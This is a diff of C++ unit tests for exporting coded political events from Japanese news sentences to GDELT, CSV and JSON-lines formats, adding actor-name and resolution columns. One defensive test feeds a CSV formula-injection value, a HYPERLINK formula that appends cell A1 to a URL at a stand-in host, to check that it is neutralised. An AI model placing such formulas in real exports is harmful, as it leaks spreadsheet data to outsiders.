@@ -8,6 +8,7 @@
 #include <sstream>
 #include <vector>
 
+#include "format/actor_text.h"
 #include "format/common.h"
 #include "format/events.h"
 #include "format/graph.h"
@@ -18,7 +19,7 @@ using nlohmann::json;
 
 namespace {
 
-const std::string kSentence = "米国と日本は東京で外相会談を開いた。";
+const std::string kSentence = "米国と中国海軍は東京で外相会談を開いた。";
 
 StoredEvent sample_event() {
   StoredEvent e;
@@ -26,6 +27,7 @@ StoredEvent sample_event() {
   e.date_precision = "day";
   e.source = "USAGOV", e.target = "CHNMILNAV", e.source_country = "USA", e.target_country = "CHN";
   e.source_text = "米国", e.target_text = "中国海軍";
+  e.source_name = "United States", e.target_name = "China";
   e.code = "036", e.root_code = "03", e.quad_class = 1, e.goldstein = 4.0, e.plover = "CONSULT";
   e.rule = "meet:会談", e.predicate = "開く", e.quote_text = "対話を続ける", e.quote_speaker = "USAGOV";
   e.actor_ids = {"countries:USA", "organizations:CHNMIL"};
@@ -207,8 +209,8 @@ TEST(ExportGdelt, SixtyOneFieldsInGdeltOrder) {
   ASSERT_EQ(f.size(), 61u);
   expect_fields(f, {{0, "4211"}, {1, "20241016"}, {2, "202410"}, {3, "2024"},
                     {4, "2024.7945"},  // day 290 of 2024 / 365
-                    {5, "USAGOV"}, {6, "米国"}, {7, "USA"}, {8, ""}, {12, "GOV"}, {13, ""},
-                    {15, "CHNMILNAV"}, {16, "中国海軍"}, {17, "CHN"}, {22, "MIL"}, {23, "NAV"},
+                    {5, "USAGOV"}, {6, "UNITED STATES"}, {7, "USA"}, {8, ""}, {12, "GOV"}, {13, ""},
+                    {15, "CHNMILNAV"}, {16, "CHINA"}, {17, "CHN"}, {22, "MIL"}, {23, "NAV"},
                     {25, "1"}, {26, "036"}, {27, "036"}, {28, "03"}, {29, "1"}, {30, "4.0"},
                     {31, "1"}, {32, "1"}, {33, "3"}, {34, ""},
                     {59, "20241019083000"}, {60, "https://example.com/a?x=1"}});
@@ -217,14 +219,15 @@ TEST(ExportGdelt, SixtyOneFieldsInGdeltOrder) {
 
 TEST(ExportGdelt, OrganisationsFallbacksAndSanitisedNames) {
   StoredEvent e = sample_event();
-  e.source = "IGOWSTAUK", e.source_text = "AUKUS\t首脳\n会合\r", e.target = "JPN", e.target_text = "日本";
+  e.source = "IGOWSTAUK", e.source_text = "AUKUS首脳会合", e.source_name = "Aukus\tsummit\nmeeting\r";
+  e.target = "JPN", e.target_text = "日本", e.target_name = "";
   e.code = "1723", e.root_code = "17", e.quad_class = 4, e.goldstein = -7.5;
   e.sentence_index = 3, e.event_date = "", e.doc_url = "";
   auto f = gdelt_fields(e);
   ASSERT_EQ(f.size(), 61u);
   expect_fields(f, {{1, "20241017"},  // doc_date
-                    {5, "IGOWSTAUK"}, {6, "AUKUS 首脳 会合 "}, {7, ""}, {8, "WST"}, {12, "IGO"}, {13, "AUK"},
-                    {15, "JPN"}, {17, "JPN"}, {22, ""}, {25, "0"}, {26, "1723"}, {27, "172"},
+                    {5, "IGOWSTAUK"}, {6, "AUKUS SUMMIT MEETING "}, {7, ""}, {8, "WST"}, {12, "IGO"}, {13, "AUK"},
+                    {15, "JPN"}, {16, ""}, {17, "JPN"}, {22, ""}, {25, "0"}, {26, "1723"}, {27, "172"},
                     {28, "17"}, {29, "4"}, {30, "-7.5"}, {60, "news/2024-10-16.txt"}});
 }
 
@@ -264,15 +267,52 @@ TEST(ExportDates, MonthAndYearDatesReachEveryFormat) {
   expect_fields(parse_csv_record(render(EventFormat::Csv, e)), {{1, "2024"}, {2, "year"}});
 }
 
+// Issue 14 item 2: names are the words of the sentence; how the coder resolved
+// them (WORDS=REFERENT, a note, an actor the predicate implies) is apart.
+TEST(ActorText, NamesAreTheWordsOfTheSentence) {
+  struct Case {
+    std::string shown, sentence, predicate, words, resolution;
+  };
+  const Case cases[] = {
+      {"両首脳=岸田首相/尹大統領", "両首脳は共同声明で連携の強化を確認した。", "確認し", "両首脳", "両首脳=岸田首相/尹大統領"},
+      {"3カ国=(salience)", "外務省は3カ国の合同演習に懸念を示した。", "示し", "3カ国", "3カ国=(salience)"},
+      {"同国=韓国と日本", "同国と日本は海洋協力で合意した。", "合意し", "同国と日本", "同国=韓国と日本"},
+      {"日本と同国=韓国", "日本と同国は海洋協力で合意した。", "合意し", "日本と同国", "日本と同国=韓国"},
+      {"両首脳 (shared with 会談)", "両首脳は会談し、声明を出した。", "出し", "両首脳", "両首脳 (shared with 会談)"},
+      {"訪米し", "首相は訪米し、大統領と会談した。", "訪米し", "", "訪米し"},
+      {"米国", "米国は声明を出した。", "出し", "米国", ""},
+      {"A=B", "式はA=Bと書く。", "書く", "A=B", ""},  // in the sentence as it is: kept
+  };
+  for (const auto& c : cases) {
+    ActorText t = split_actor_text(c.shown, c.sentence, c.predicate);
+    EXPECT_EQ(t.words, c.words) << c.shown;
+    EXPECT_EQ(t.resolution, c.resolution) << c.shown;
+  }
+}
+
+TEST(ExportCsv, ResolvedNamesGoToTheirOwnColumns) {
+  StoredEvent e = sample_event();
+  e.sentence = "両国は東京で外相会談を開いた。";
+  e.source_text = "両国=米国/中国", e.target_text = "両国=米国/中国";
+  auto f = parse_csv_record(render(EventFormat::Csv, e));
+  expect_fields(f, {{12, "両国"}, {13, "両国"}, {14, "両国=米国/中国"}, {15, "両国=米国/中国"}});
+  json j = json::parse(render(EventFormat::Jsonl, e));
+  expect_subset(j, {{"source_text", "両国"}, {"target_resolution", "両国=米国/中国"}});
+  auto g = gdelt_fields(e);
+  expect_fields(g, {{6, "UNITED STATES"}, {16, "CHINA"}});
+}
+
 TEST(ExportCsv, HeaderAndQuotingRoundTrip) {
   std::ostringstream head;
   write_events_header(EventFormat::Csv, head);
   auto columns = split(head.str().substr(0, head.str().size() - 1), ',');
-  ASSERT_EQ(columns.size(), 19u);
+  ASSERT_EQ(columns.size(), 21u);
   EXPECT_EQ(columns[0], "id");
   EXPECT_EQ(columns[2], "date_precision");
   EXPECT_EQ(columns[10], "goldstein");
-  EXPECT_EQ(columns[18], "sentence");
+  EXPECT_EQ(columns[14], "source_resolution");
+  EXPECT_EQ(columns[15], "target_resolution");
+  EXPECT_EQ(columns[20], "sentence");
 
   StoredEvent e = sample_event();
   e.sentence = "He said \"yes, 合意\",\nthen left";
@@ -281,10 +321,10 @@ TEST(ExportCsv, HeaderAndQuotingRoundTrip) {
   EXPECT_NE(line.find(",\"say \"\"hi\"\"\","), std::string::npos) << line;
   EXPECT_NE(line.find("\"He said \"\"yes, 合意\"\",\nthen left\""), std::string::npos) << line;
   auto f = parse_csv_record(line);
-  ASSERT_EQ(f.size(), 19u);
+  ASSERT_EQ(f.size(), 21u);
   expect_fields(f, {{0, "4211"}, {1, "2024-10-16"}, {2, "day"}, {3, "USAGOV"}, {10, "4.0"}, {11, "CONSULT"},
-                    {12, "a,b"}, {13, "two\nlines"}, {14, "say \"hi\""},
-                    {16, "https://example.com/a?x=1"}, {18, e.sentence}});
+                    {12, "a,b"}, {13, "two\nlines"}, {14, ""}, {15, ""}, {16, "say \"hi\""},
+                    {18, "https://example.com/a?x=1"}, {20, e.sentence}});
 }
 
 // Issue 13 item 13: a cell that starts with = + - @ (or TAB, CR) is a formula
@@ -299,9 +339,10 @@ TEST(ExportCsv, FormulaCellsAreNeutralised) {
   e.doc_url = "\t=1";
   e.sentence = "\r=2";
   auto f = parse_csv_record(render(EventFormat::Csv, e));
-  ASSERT_EQ(f.size(), 19u);
-  expect_fields(f, {{10, "-2.0"}, {12, "'=HYPERLINK(\"http://x.example/?\"&A1,\"a\")"}, {13, "'+81 3"},
-                    {14, "'-1+1"}, {15, "'@SUM(A1)"}, {16, "'\t=1"}, {18, "'\r=2"}});
+  ASSERT_EQ(f.size(), 21u);
+  // "=HYPERLINK(...)" reads as a resolution of no words: the formula is in source_resolution.
+  expect_fields(f, {{10, "-2.0"}, {12, ""}, {14, "'=HYPERLINK(\"http://x.example/?\"&A1,\"a\")"}, {13, "'+81 3"},
+                    {16, "'-1+1"}, {17, "'@SUM(A1)"}, {18, "'\t=1"}, {20, "'\r=2"}});
   EXPECT_EQ(csv_field("-12.5"), "-12.5");
   EXPECT_EQ(csv_field("+3"), "+3");
   EXPECT_EQ(csv_field("-"), "'-");
@@ -341,7 +382,8 @@ TEST(ExportJsonl, EveryFieldAndJapaneseIntact) {
                     {"intent", false}, {"added", "2024-10-19T08:30:00Z"}});
   EXPECT_EQ(j["predicate_span"], json::array({0, 0}));  // not known for this event
   EXPECT_EQ(j["date_precision"], "day");
-  EXPECT_EQ(j.size(), 30u);
+  expect_subset(j, {{"source_resolution", ""}, {"target_resolution", ""}});
+  EXPECT_EQ(j.size(), 32u);
 
   StoredEvent e = sample_event();
   e.plover = "";
